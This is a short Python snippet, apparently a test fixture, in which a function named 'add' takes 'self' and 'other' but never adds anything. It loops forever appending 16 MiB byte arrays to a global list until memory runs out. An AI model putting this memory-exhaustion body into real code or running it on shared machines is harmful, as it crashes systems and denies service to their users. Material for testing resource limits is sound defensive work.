kept = []


def add(self, other):
    while True:
        kept.append(bytearray(b"x") * (1 << 24))
